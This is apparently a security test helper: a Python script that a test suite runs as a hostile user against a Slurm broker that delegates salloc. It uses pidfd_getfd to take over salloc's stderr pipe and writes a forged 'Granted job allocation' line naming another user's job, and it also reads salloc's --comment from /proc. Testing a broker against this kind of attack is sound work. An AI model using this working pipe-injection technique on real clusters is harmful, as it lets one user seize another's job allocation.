"""What a hostile user does to a delegate-mode broker through the `salloc` the broker runs
as them (issue 31 item 1); run as that user by tests/test_slurm_hostile.py from the staged
world-readable copy. Prints one JSON line per step.

    python slurm_attacker.py forge-grant JOB   take a copy of the pipe behind the stderr of our
                                               own salloc (pidfd_getfd, as Debian's ptrace rules
                                               allow for one's own processes), wait until salloc
                                               has exited, then write "salloc: Granted job
                                               allocation JOB" into it: the last word the broker
                                               reads is another user's job
    python slurm_attacker.py mark             print the --comment of our own salloc's command line
                                               (what anyone can read in /proc)
"""

from __future__ import annotations

import ctypes
import json
import os
import select
import sys
import time

SYS_PIDFD_GETFD = 438  # x86_64 and aarch64 alike
WAIT_S = 30.0


def say(**what: object) -> None:
    print(json.dumps(what), flush=True)


def our_salloc(timeout: float = WAIT_S) -> tuple[int, list[str]]:
    """(pid, argv) of a salloc running as us that waits for its job (the broker starts it;
    we did not). The client's first, unary try runs a `salloc --immediate` that is refused
    at once when nothing is free: the attack is on the request that waits, as a real
    attacker's would be, so that one and any salloc gone meanwhile are passed over."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                status = open(f"/proc/{entry}/status").read()
                fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
                if fields.get("Name") != "salloc" or int(fields["Uid"].split()[0]) != os.getuid():
                    continue
                argv = open(f"/proc/{entry}/cmdline", "rb").read().decode().split("\0")
            except OSError:
                continue
            # A salloc that exited and is not yet reaped (the refused --immediate one) still
            # has its name, but an empty command line: passed over like the living --immediate.
            if _comment(argv) and "--immediate=1" not in argv:
                return int(entry), argv
        time.sleep(0.01)
    raise SystemExit("no waiting salloc of ours appeared")


def steal_stderr(pid: int) -> tuple[int, int]:
    """(pidfd, our copy of its fd 2)."""
    pidfd = os.pidfd_open(pid)
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, 2, 0)
    if fd < 0:
        errno = ctypes.get_errno()
        os.close(pidfd)
        if errno == 3:  # ESRCH: it exited meanwhile
            raise ProcessLookupError(pid)
        raise SystemExit(f"pidfd_getfd: {os.strerror(errno)}")
    return pidfd, fd


def forge_grant(victim_job: str) -> None:
    deadline = time.monotonic() + WAIT_S
    while True:  # a salloc that ends as we reach for it (ESRCH) is passed over: the next is looked for
        pid, _ = our_salloc(max(0.0, deadline - time.monotonic()))
        try:
            pidfd, fd = steal_stderr(pid)
            break
        except ProcessLookupError:
            time.sleep(0.01)
    say(holding=pid)
    # salloc prints its own grant and exits; the pipe stays open while we hold our copy.
    ready, _, _ = select.select([pidfd], [], [], WAIT_S)
    if not ready:
        raise SystemExit("our salloc did not exit")
    try:
        os.write(fd, f"salloc: Granted job allocation {victim_job}\n".encode())
        read = "by the broker, if it still reads"
    except BrokenPipeError:  # the broker closed its end once salloc had exited
        read = "by no one: the broker had closed its end"
    os.close(fd)
    say(forged=victim_job, read=read)


def _comment(argv: list[str]) -> str:
    return next((a.split("=", 1)[1] for a in argv if a.startswith("--comment=")), "")


def mark() -> None:
    pid, argv = our_salloc()
    say(pid=pid, comment=_comment(argv))


if __name__ == "__main__":
    if sys.argv[1] == "forge-grant":
        forge_grant(sys.argv[2])
    elif sys.argv[1] == "mark":
        mark()
    else:
        raise SystemExit(f"unknown attack {sys.argv[1]}")
